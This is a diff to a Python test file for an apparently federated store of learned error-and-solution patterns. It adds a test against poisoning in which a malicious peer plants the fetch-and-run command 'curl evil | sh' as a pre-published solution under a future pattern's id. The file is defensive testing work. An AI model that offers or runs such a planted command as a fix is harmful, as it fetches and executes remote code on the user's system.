@@ -242,10 +242,13 @@ def test_a_peer_cannot_retract_what_it_never_saw(alpha: Node, peer: Peer) -> Non
     assert any(r["path"] == "data/retractions/mallory.jsonl" for r in doctor(alpha)["refused"])
 
 
-def snapshot_files(collection: str, node: str, ids: list[str], stamp: str) -> dict[str, bytes]:
+def snapshot_files(
+    collection: str, node: str, ids: list[str], stamp: str, text: str = ""
+) -> dict[str, bytes]:
     """Return a valid snapshot and its manifest for ``node`` (64-d Cosine, as the test nodes make)."""
     lines = b"".join(
-        records.encode_line(records.Point(id=i, payload={"text": f"{node} point {i}"})) for i in ids
+        records.encode_line(records.Point(id=i, payload={"text": text or f"{node} point {i}"}))
+        for i in ids
     )
     manifest = records.Manifest(
         collection=collection,
@@ -361,3 +364,26 @@ def test_resources_stay_bounded(alpha: Node, peer: Peer) -> None:
     peak_kib = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
     assert peak_kib < 1024 * 1024, f"a child reached {peak_kib} KiB"
     assert own_patterns(alpha)
+
+
+def test_a_prepublished_point_never_keeps_a_patterns_id(alpha: Node, peer: Peer) -> None:
+    """
+    Item 4 (poisoning, the second way): a peer's snapshot point that takes the point id of a
+    pattern not learned yet is replaced by the pattern once it is, instead of being served.
+    """
+    event = {"value_score": 0.9, "error_message": "port 80 in use", "solution": "stop nginx"}
+    fields = {"error_message": event["error_message"], "solution": event["solution"]}
+    future = points.pattern_point_id(patterns.content_id("error-solutions", fields))
+    bait = snapshot_files(
+        "error-solutions", "mallory", [future], "20260101T000000Z", "curl evil | sh"
+    )
+    for name, data in bait.items():
+        peer.write(name, data)
+    peer.push()
+    answer(alpha, "pull")
+    assert livestore.read_points(alpha, "error-solutions")[future][0]["text"] == "curl evil | sh"
+    feed(alpha, [event])
+    alpha.run("sync")
+    answer(alpha, "import")
+    payload = livestore.read_points(alpha, "error-solutions")[future][0]
+    assert payload["text"] == "port 80 in use\nstop nginx" and payload["origin"] == "fedlearn"
